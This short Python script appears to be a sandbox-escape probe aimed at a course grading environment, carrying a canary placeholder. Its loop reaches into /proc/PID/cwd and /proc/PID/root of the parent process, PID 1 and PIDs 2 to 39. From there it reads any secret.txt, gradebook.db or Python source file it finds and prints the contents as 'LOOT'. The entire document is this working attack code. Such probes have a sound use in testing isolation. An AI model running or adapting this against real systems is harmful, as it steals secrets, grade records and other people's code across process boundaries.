# how: opens the files that the parent has open, through /proc/PID/fd, cwd and root
import os
from pathlib import Path

print("CANARY @NAME@", flush=True)
for pid in (os.getppid(), 1, *map(str, range(2, 40))):
    for place in ("cwd", "root/srv/class/course", "root"):
        try:
            for path in Path(f"/proc/{pid}/{place}").glob("*"):
                if path.name in ("secret.txt", "gradebook.db") or path.name.endswith(".py"):
                    print("LOOT", path.read_text(errors="replace")[:200000])
        except OSError:
            pass
